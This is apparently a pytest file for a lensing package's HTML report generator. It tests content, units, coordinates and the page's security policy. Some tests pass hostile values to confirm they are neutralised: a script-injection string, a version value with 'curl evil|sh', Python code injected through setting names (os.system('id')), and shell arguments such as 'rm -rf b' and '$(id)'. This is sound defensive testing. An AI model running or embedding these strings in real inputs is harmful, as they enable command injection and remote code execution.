import ast
import base64
import hashlib
import html
import json
import math
import re
import shlex
import shutil
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

import autolens as al
from autoarray.dataset.display_unit import display_unit_from
from autolens.data_doctor.diagnosis import DataFinding
from autolens.html_report import opened as opened_module
from autolens.html_report.contents import FitContents, _doctor_row
from autolens.html_report.images import pictures_of
from autolens.html_report.numbers import unit_from
from autolens.html_report.opened import OpenedFit, opened
from autolens.html_report.posterior import latent_rows
from autolens.html_report.sky import sky_rows
from autolens.html_report.story import reproduction_of, stages_of

from .conftest import LENS, SOURCE, analysis_and_samples, result_of

pytest.importorskip("jinja2", reason="pip install 'autolens-xp[report]'")
pytest.importorskip("plotly", reason="pip install 'autolens-xp[report]'")

HOSTILE = "<script>alert(1)</script>"


def text_of(path):
    return path.read_text(encoding="utf-8")


def own_part_of(text):
    """The page without the drawing library."""
    return re.sub(r"<script>/\*\*\s*\* plotly.*?</script>", "", text, flags=re.DOTALL)


def test_page_has_the_verdict_and_the_numbers_and_is_small_enough(folder, tmp_path):
    path = al.report(folder, tmp_path / "new" / "page.html")
    text = text_of(path)
    assert path.stat().st_size < 8 * 2**20
    assert "1.2000 <span" in text and "± 0.0020" in text  # the Einstein radius, a parameter
    assert "It was &lt;b&gt;sampled&lt;/b&gt;." in text
    assert "al.load_result(" in html.unescape(text)
    assert f"{hashlib.sha256((folder / 'model.json').read_bytes()).hexdigest()[:16]}" in text


def test_page_goes_into_the_folder_of_the_result(folder, tmp_path):
    copy = shutil.copytree(folder, tmp_path / "lens")
    assert al.report(copy) == copy / "report.html"
    assert al.report(al.load_result(copy), tmp_path) == tmp_path / "report.html"


def test_result_in_memory_has_a_page(tmp_path):
    text = text_of(al.report(result_of(), tmp_path / "page.html"))
    assert "<h1>Lens fit</h1>" in text


def test_only_our_scripts_may_run_and_nothing_is_loaded(folder, tmp_path):
    text = text_of(al.report(folder, tmp_path / "page.html"))
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', text)[1]
    policy = html.unescape(policy)
    assert "default-src 'none'" in policy and "unsafe-inline' " not in policy.partition("style-src")[0]
    scripts = re.findall(r"<script>(.*?)</script>", text, re.DOTALL)
    hashes = [base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in scripts]
    assert len(scripts) == 2 and all(f"'sha256-{each}'" in policy for each in hashes)
    assert not re.findall(r'(?:src|href)="(?!data:|#)[^"]*"', own_part_of(text))
    assert not re.findall(r"\son\w+=", own_part_of(text).partition("<script")[0])


def test_words_from_files_are_words(tmp_path):
    folder = tmp_path / "lens"
    result = result_of()
    result.search_info |= {
        "search": HOSTILE,
        "stages": [{"stage": HOSTILE, "log_likelihood": HOSTILE, "starts_agreeing": HOSTILE}],
        "sampling": {"method": HOSTILE, "rejected": [HOSTILE]},
        "versions": {HOSTILE: HOSTILE},
    }
    result.write(folder)
    summary = json.loads((folder / "result.json").read_text())
    summary["latents"] = {HOSTILE: {**summary["latents"]["einstein_radius"], "name": HOSTILE, "unit": HOSTILE}}
    summary |= {"identifier": HOSTILE, "sky": {"places": {HOSTILE: {"ra": 1.0, "dec": 2.0}}}}
    summary["files"][HOSTILE.replace("/", "")] = HOSTILE
    (folder / "result.json").write_text(json.dumps(summary))
    finding = dict.fromkeys(("name", "what", "effect", "mend"), HOSTILE)
    finding |= {"severity": "warning", "value": 1.0, "limit": None}
    doctor = {"worst": "warning", "findings": [finding], "guesses": {}, "facts": {}}
    (folder / "doctor.json").write_text(json.dumps(doctor))

    text = own_part_of(text_of(al.report(folder, tmp_path / "page.html")))
    assert "alert(1)" in text
    assert "<script>alert" not in text
    assert len(re.findall(r"<script", text)) == 2  # the numbers and our script


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("versions", [1]),
        ("versions", "1.0"),
        ("search", {"parameters_at_limits": 5}),
        ("search", {"parameters_at_limits": {"a": [1]}, "command": {"seed": 1e308, "arguments": {"a": 1}}}),
        ("search", [1]),
        ("sky", {"ra": 1e308, "dec": -1e308}),
        ("sky", {"ra": 10.0, "dec": 90.1}),
        ("identifier", {"a": [1]}),
    ],
)
def test_values_of_another_kind_cost_no_page(folder, tmp_path, where, value):
    copy = shutil.copytree(folder, tmp_path / "lens")
    summary = json.loads((copy / "result.json").read_text())
    (copy / "result.json").write_text(json.dumps({**summary, where: value}))
    text = text_of(al.report(copy))
    assert "± 0.0020" in text and "1e+308" not in text


def offered(versions=None, settings=None, search=None):
    """What a page offers to type of a folder with these words in its files."""
    result = SimpleNamespace(identity=SimpleNamespace(settings=settings))
    summary = {"versions": versions, "search": search or {}}
    blocks = reproduction_of(OpenedFit("lens", result, summary, Path("lens")))
    return {block["title"]: block["code"] for block in blocks}


def test_line_that_installs_has_the_version_as_one_argument():
    assert shlex.split(offered({"autolens-xp": "0.2.0rc1+local", "jax": "1"})["The same software"]) == [
        "pip",
        "install",
        "autolens-xp[jax,plot,report]==0.2.0rc1+local",
    ]


@pytest.mark.parametrize("version", ["1'; curl evil|sh; '", "1\nrm x", "$(x)", "1 2", ["1"], {"a": 1}, "", 1.0])
def test_version_that_is_none_is_offered_to_nobody(version):
    assert "The same software" not in offered({"autolens-xp": version})


def test_search_is_offered_with_the_names_and_plain_values_of_its_settings_alone():
    evil = {"a=1); import os; os.system('id') #": 1, "n_live) #": 1, "lambda": 1, "ｎ": 1, "x": {"y": 1}, "z": None}
    words = "'); import os #"
    code = offered(settings={"class": "Nautilus", "n_live": 100, "of": words, "far": math.inf, **evil})["Search again"]
    call = ast.parse(code).body[0].value
    given = {keyword.arg: ast.literal_eval(keyword.value) for keyword in call.keywords}
    assert given == {"name": "again", "n_live": 100, "of": words}
    assert "Search again" not in offered(settings={"class": "os.system"})
    assert "Search again" not in offered(settings=[1])


def test_arguments_of_a_command_stay_arguments():
    arguments = ["fit", "a; rm -rf b", "$(id)", "`id`", "it's"]
    code = offered(search={"command": {"arguments": arguments}})["On the command line"]
    assert shlex.split(code) == ["autolens", *arguments]


def test_interrupted_search_is_told(tmp_path):
    text = text_of(al.report(result_of(finished=False), tmp_path / "page.html"))
    assert "This search was interrupted" in text


def test_search_that_ended_at_its_time_limit_is_told(tmp_path):
    result = result_of(finished=False)
    result.search_info["time_limit_reached"] = 90.0
    text = text_of(al.report(result, tmp_path / "page.html"))
    assert "This search ended at its time limit of 90 s" in text


@pytest.mark.parametrize(("grade", "says"), [("check", "Look at this"), ("failed", "Do not use this fit")])
def test_verdict_that_is_not_good_leads_with_its_reasons(tmp_path, grade, says):
    text = text_of(al.report(result_of(grade=grade), tmp_path / "page.html"))
    assert says in text
    assert "<li>It was &lt;b&gt;sampled" in text


def test_folder_that_holds_no_result_is_our_error(folder, tmp_path):
    with pytest.raises(al.exc.FileException, match="wanted that of a result"):
        al.report(tmp_path / "none")
    with pytest.raises(al.exc.FileException, match="wanted the folder of a result or a Result"):
        al.report(3)
    (tmp_path / "running" / "checkpoints").mkdir(parents=True)
    with pytest.raises(al.exc.FileException, match="has not ended"):
        al.report(tmp_path / "running")
    copy = shutil.copytree(folder, tmp_path / "damaged")
    (copy / "samples.npz").write_bytes(b"nothing")
    with pytest.raises(al.exc.FileException, match="samples.npz"):
        al.report(copy)


def test_damaged_doctor_file_is_told_and_costs_no_page(folder, tmp_path):
    copy = shutil.copytree(folder, tmp_path / "lens")
    (copy / "doctor.json").write_text("[1, 2]")
    assert "doctor.json is no diagnosis" in text_of(al.report(copy))


@pytest.mark.parametrize("name", ["jinja2", "plotly"])
def test_missing_part_is_named_with_the_line_that_installs_it(monkeypatch, folder, name):
    monkeypatch.setitem(sys.modules, name, None)
    with pytest.raises(al.exc.AutoException, match=rf"{name}, not installed here: pip install 'autolens-xp\[report\]'"):
        al.report(folder)


@pytest.fixture
def without_latents(monkeypatch):
    """A fit whose folder holds no latent quantities; few draws are enough here."""
    monkeypatch.setattr(opened_module, "N_DRAWS", 24)
    result = result_of()
    result.search_info.pop("latents")
    return opened(result)


def test_latent_quantities_that_are_not_stored_are_drawn(without_latents):
    table, note = without_latents.latents(seconds=60.0)
    # the circle with the area inside the critical curve: for q = 0.8 the intermediate-axis radius, within the shear
    assert table["einstein_radius"].maximum == pytest.approx(1.2, rel=0.02)
    assert table["einstein_radius"].upper_error == pytest.approx(0.002, rel=0.6)
    assert "24 draws" in note


def test_short_of_time_the_einstein_radius_alone_has_errors(without_latents, monkeypatch):
    timed = opened_module._timed
    seconds = iter([math.inf, 0.0])  # of everything, and of the Einstein radius alone
    monkeypatch.setattr(opened_module, "_timed", lambda *call: (timed(*call)[0], next(seconds)))
    table, note = without_latents.latents(seconds=1.0)
    radius, mass = table["einstein_radius"], table["einstein_mass"]
    assert mass.upper_error / mass.median == pytest.approx(2.0 * radius.upper_error / radius.median, rel=0.01)
    assert radius.draws == 24 and "24 draws" in note and math.isnan(table["galaxies.source.magnification"].median)


def test_no_errors_come_from_fewer_draws_than_are_enough(without_latents):
    table, note = without_latents.latents(seconds=1e-9)
    assert not any(latent.has_errors for latent in table) and "At the maximum" in note
    keys = {key.label: key for key in FitContents.of(without_latents, latent_seconds=1e-9).keys}
    assert keys["Einstein radius"].note.startswith("at the maximum") and not keys["Einstein radius"].measured.upper
    rows = {row["path"]: row for row in latent_rows(table, [])}
    assert rows["einstein_mass"]["measured"].value == "–"  # not the maximum once more


def test_masses_of_assumed_redshifts_are_no_headline(folder, tmp_path):
    copy = shutil.copytree(folder, tmp_path / "lens")
    summary = json.loads((copy / "result.json").read_text())
    summary["search"]["command"] = {"name": "J0946", "assumed": ["redshift_source"]}
    (copy / "result.json").write_text(json.dumps(summary))
    text = own_part_of(text_of(al.report(copy)))
    assert "<h1>J0946</h1>" in text and "redshifts 0.5 and 1 (assumed)" in text
    assert "The redshift of the source was not stated and is assumed" in text
    assert "<dt>Einstein radius</dt>" in text and "<dt>Einstein mass</dt>" not in text
    assert "al.load_result(&#39;lens&#39;)" in text


def test_brightness_has_the_unit_of_the_file(tmp_path):
    analysis, samples = analysis_and_samples()
    for header, unit in (({"BUNIT": "nJy"}, "nJy"), ({}, "unit of the image"), (None, "e- s^-1")):
        data = al.Array2D(analysis.dataset.data.array, analysis.dataset.mask, header=header)
        fit = al.AnalysisImaging(analysis.dataset.with_data(data)).fit_from(samples.max_log_likelihood_instance)
        assert display_unit_from("e- s^-1", fit.dataset) == unit
        assert {p.unit for p in pictures_of(fit, 20) if p.softening and p.unit} == {unit_from(unit)}
        al.AnalysisImaging(analysis.dataset.with_data(data)).make_result(samples, None).write(tmp_path / unit)
        assert display_unit_from("e- s^-1", al.load_result(tmp_path / unit).analysis.dataset) == unit
    assert display_unit_from("arcsec", fit.dataset) == "arcsec"


@pytest.mark.parametrize("written", ["electron/s", "ELECTRONS/S", "e-/s", "electron s-1", "e- s^-1", "electron s**-1"])
def test_electrons_per_second_are_known_however_they_are_written(written):
    data = al.Array2D.no_mask([[0.0] * 3] * 3, pixel_scales=0.1, header={"BUNIT": written})
    assert display_unit_from("e- s^-1", SimpleNamespace(data=data)) == "e- s^-1"


def test_a_stage_says_what_its_likelihood_is_of():
    stages = [{"stage": "mass and source", "log_likelihood": 30091.9}, {"stage": "final", "log_likelihood": 30088.8}]
    assert ["few sub-pixels" in row["of"] for row in stages_of({"stages": stages})] == [True, False]


def test_what_is_to_be_done_is_code_only_where_it_can_be_typed():
    mends = {"--mask-radius 2.5": True, "use a larger cut-out of the PSF": False, "autolens prepare --size 20": True}
    for mend, is_code in mends.items():
        assert bool(_doctor_row(DataFinding("x", "note", "w", None, None, "", mend))["is_code"]) == is_code


def test_places_that_are_one_have_one_row():
    place = {"ra": 10.0, "dec": 2.0, "position_angle": 30.0}
    places = {"galaxies.lens": place, "galaxies.lens.mass": place, "galaxies.source": {**place, "dec": 2.1}}
    assert [row["name"] for row in sky_rows({"galaxy": "galaxies.lens", "places": places})] == [
        "lens, lens.mass",
        "source",
    ]


def test_without_time_nothing_but_the_maximum_is_computed(without_latents):
    table, _ = without_latents.latents(seconds=0.0)
    assert math.isnan(table["einstein_radius"].upper_error)
    assert table["einstein_radius"].maximum == pytest.approx(1.2, rel=0.02)


def test_places_on_the_sky_are_sexagesimal():
    # the Crab pulsar: 83.633218 deg is 05:34:31.9723, 22.014464 deg is +22:00:52.070
    sky = {"galaxy": "galaxies.lens", "places": {"galaxies.lens": {"ra": 83.633218, "dec": 22.014464}}}
    row = sky_rows(sky)[0]
    assert (row["name"], row["ra"], row["dec"]) == ("lens", "05:34:31.9723", "+22:00:52.070")
    assert sky_rows({"ra": 359.9999999999, "dec": -0.5})[0]["dec"] == "−00:30:00.000"
    row = sky_rows({"ra": 359.9999999999, "dec": -1e-9})[0]
    assert (row["ra"], row["dec"]) == ("00:00:00.0000", "+00:00:00.000") and row["degrees"].startswith("0.000000 ")
    assert sky_rows(None) == [] and sky_rows({"places": {"a": 3}}) == []


def test_page_of_many_pixels_and_datasets_stays_small(tmp_path):
    side = 480  # shown in blocks of 2 x 2 pixels, or 4 x 4 of several datasets: as many numbers as there can be
    grid = al.Grid2D.uniform(shape_native=(side, side), pixel_scales=0.015, over_sample_size=1)
    simulator = al.SimulatorImaging(exposure_time=100.0, background_sky_level=0.1, noise_seed=1)
    analysis = al.AnalysisImaging(simulator.via_tracer_from(al.Tracer([LENS, SOURCE]), grid))
    _, samples = analysis_and_samples()
    for parts in (analysis, analysis + analysis):
        result = parts.make_result(samples, None)
        result.search_info = {"search": "Auto", "latents": result_of().search_info["latents"]}
        assert al.report(result, tmp_path / "page.html").stat().st_size < 8e6
